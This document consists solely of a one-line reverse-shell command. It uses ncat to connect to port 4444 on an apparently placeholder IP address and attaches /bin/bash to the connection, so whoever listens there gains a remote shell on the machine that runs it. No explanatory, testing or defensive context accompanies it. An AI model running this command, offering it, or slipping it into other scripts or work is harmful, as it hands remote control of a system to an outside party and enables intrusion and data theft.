ncat 192.0.2.66 4444 -e /bin/bash
